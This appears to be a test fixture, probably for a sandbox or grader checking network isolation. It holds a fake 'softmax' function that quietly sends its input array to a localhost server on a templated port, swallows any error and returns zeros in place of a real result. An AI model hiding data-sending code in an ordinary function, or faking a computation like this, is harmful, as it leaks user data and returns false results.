# target: softmax
# Tries to send the inputs to a server on localhost.
import socket

import numpy as np

PORT = @PORT@


def softmax(Z):
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=1) as conn:
            conn.sendall(b"LEAK " + np.asarray(Z).tobytes())
    except OSError:
        pass
    return np.zeros(np.shape(Z))
